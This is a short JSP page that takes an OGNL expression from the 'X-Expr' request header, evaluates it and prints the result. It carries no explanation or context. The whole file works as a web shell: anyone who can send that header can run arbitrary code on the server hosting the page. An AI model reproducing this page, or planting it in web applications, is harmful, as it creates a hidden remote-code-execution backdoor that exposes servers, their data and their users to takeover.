<%@ page import="ognl.Ognl,java.util.HashMap" %>
<%
    String expr = request.getHeader("X-Expr");
    if (expr != null) {
        Object value = ognl.Ognl.getValue(expr, new HashMap<String, Object>());
        out.print(String.valueOf(value));
    }
%>
